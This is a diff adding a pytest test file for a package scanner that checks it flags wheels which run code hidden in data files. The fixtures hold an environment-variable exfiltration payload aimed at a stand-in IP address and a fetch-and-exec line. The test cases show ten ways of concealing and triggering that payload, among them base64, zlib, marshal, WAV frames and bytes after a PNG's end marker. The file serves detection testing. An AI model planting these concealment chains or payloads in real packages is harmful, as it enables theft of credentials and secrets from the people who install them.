@@ -1,0 +1,135 @@
+"""Files of data that code runs are read as that code, in the phase in which it does."""
+
+# ruff: noqa: E501, ISC004 - a case is read best as it is written
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import marshal
+import wave
+import zlib
+from collections.abc import Mapping
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pratique.facts.payload import contents, is_python, wave_frames
+from pratique.finding import Phase
+from pratique.screen import screen_bytes
+from pratique.verdict import Report, Verdict
+from tests.support.distributions import make_wheel_of
+
+_CODE = b"import os, urllib.request as u\nu.urlopen('http://192.0.2.1/', data=str(dict(os.environ)).encode())\n"
+_TEXT = base64.b64encode(_CODE)
+_MODULE = "example_pkg/__init__.py"
+_PNG = b"\x89PNG\r\n\x1a\n" + bytes(60) + b"IEND\xaeB`\x82"
+
+
+def _wav(frames: bytes) -> bytes:
+    into = io.BytesIO()
+    with wave.open(into, "wb") as sound:
+        sound.setnchannels(1)
+        sound.setsampwidth(1)
+        sound.setframerate(8000)
+        sound.writeframes(frames)
+    return into.getvalue()
+
+
+def _marshalled(code: bytes) -> bytes:
+    return marshal.dumps(compile(code, "x", "exec"))
+
+
+def _screened(source: str, files: Mapping[str, bytes]) -> Report:
+    data = make_wheel_of({_MODULE: source.encode(), **{f"example_pkg/{k}": v for k, v in files.items()}})
+    return screen_bytes(data, filename="example_pkg-1.0-py3-none-any.whl")
+
+
+@pytest.mark.parametrize(
+    ("source", "name", "data"),
+    [
+        ("exec(open('example_pkg/x.txt').read())", "x.txt", _CODE),
+        ("import os\nexec(open(os.path.join(os.path.dirname(__file__), 'x.dat')).read())", "x.dat", _CODE),
+        (
+            "import base64\nfrom pathlib import Path\n"
+            "exec(base64.b64decode((Path(__file__).parent / 'x.bin').read_bytes()))",
+            "x.bin",
+            _TEXT,
+        ),
+        (
+            "import pkgutil, zlib\nexec(zlib.decompress(pkgutil.get_data(__name__, 'x.bin')))",
+            "x.bin",
+            zlib.compress(_CODE),
+        ),
+        (
+            "import json, base64\nd = json.load(open('example_pkg/c.json'))\nexec(base64.b64decode(d['k']))",
+            "c.json",
+            json.dumps({"a": 1, "k": _TEXT.decode()}).encode(),
+        ),
+        ("import marshal\nexec(marshal.load(open('example_pkg/x.bin', 'rb')))", "x.bin", _marshalled(_CODE)),
+        (
+            "import wave, base64\nw = wave.open('example_pkg/a.wav')\nexec(base64.b64decode(w.readframes(9)))",
+            "a.wav",
+            _wav(_TEXT),
+        ),
+        ("exec(open('example_pkg/l.png', 'rb').read().split(b'IEND')[1][4:])", "l.png", _PNG + _CODE),
+        ("import runpy\nrunpy.run_path('example_pkg/x.txt')", "x.txt", _CODE),
+        ("import subprocess, sys\nsubprocess.Popen([sys.executable, 'example_pkg/x.py'])", "x.py", _CODE),
+    ],
+)
+def test_a_chain_behind_a_file_is_proven(source: str, name: str, data: bytes) -> None:
+    """Whatever the file is and however it is packed: what it holds runs when the module is imported."""
+    report = _screened(source, {name: data})
+    assert report.verdict is Verdict.MALICIOUS
+    assert (f"example_pkg/{name}", True) in {(f.path, f.proven) for f in report.findings if f.rule == "theft"}
+
+
+def test_files_that_run_files_are_followed() -> None:
+    """A chain of files ends in what the last of them does."""
+    files = {"a.txt": b"exec(open('example_pkg/b.txt').read())\n", "b.txt": _CODE}
+    assert _screened("exec(open('example_pkg/a.txt').read())", files).verdict is Verdict.MALICIOUS
+
+
+def test_a_file_that_only_a_caller_runs_is_not_proven_by_its_phase() -> None:
+    """The phase is that of the call, not of the module."""
+    source = "def f():\n    exec(open('example_pkg/x.txt').read())\n"
+    fetches = b"import urllib.request as u\nexec(u.urlopen('https://stage.example.invalid/a').read())\n"
+    found = [f for f in _screened(source, {"x.txt": fetches}).findings if f.rule == "second-stage"]
+    assert {(f.phase, f.proven) for f in found} == {(Phase.CALL, False)}
+
+
+@pytest.mark.parametrize(
+    ("source", "name", "data"),
+    [
+        ("exec(open('example_pkg/_version.py').read())", "_version.py", b"__version__ = '1.0'\n"),
+        ("import json\nDATA = json.load(open('example_pkg/c.json'))\n", "c.json", json.dumps({"k": _CODE.decode()}).encode()),
+        ("import base64\nICON = base64.b64decode(open('example_pkg/i.b64').read())\n", "i.b64", base64.b64encode(_PNG)),
+    ],
+)  # fmt: skip
+def test_data_that_nobody_runs_proves_nothing(source: str, name: str, data: bytes) -> None:
+    """Versions, settings and pictures."""
+    assert not [f for f in _screened(source, {name: data}).findings if f.proven]
+
+
+def test_frames_are_those_that_wave_reads() -> None:
+    """The samples of a sound, as the standard library gives them."""
+    assert wave_frames(_wav(b"abcd")) == b"abcd"
+    assert wave_frames(b"RIFF....WAVE") == b""
+
+
+@pytest.mark.parametrize(("text", "code"), [("import os", True), ("x = f(1)", False), ("print(1)", True), ("an import of goods", False)])  # fmt: skip
+def test_python_is_told_from_text(text: str, code: bool) -> None:  # noqa: FBT001
+    """Source parses and does something."""
+    assert is_python(text) is code
+
+
+@given(
+    st.binary(max_size=400),
+    st.sampled_from([b"", b"RIFF\0\0\0\0WAVE", b"\x89PNG\r\n\x1a\n", b"{", b"\xe3", b"GIF8", b"U\r\r\n"]),
+)
+def test_any_bytes_are_looked_into(data: bytes, head: bytes) -> None:
+    """No bytes make it raise, and it ends."""
+    assert next(iter(contents(head + data))).data == head + data
+    assert len(list(contents(head + data))) < 100
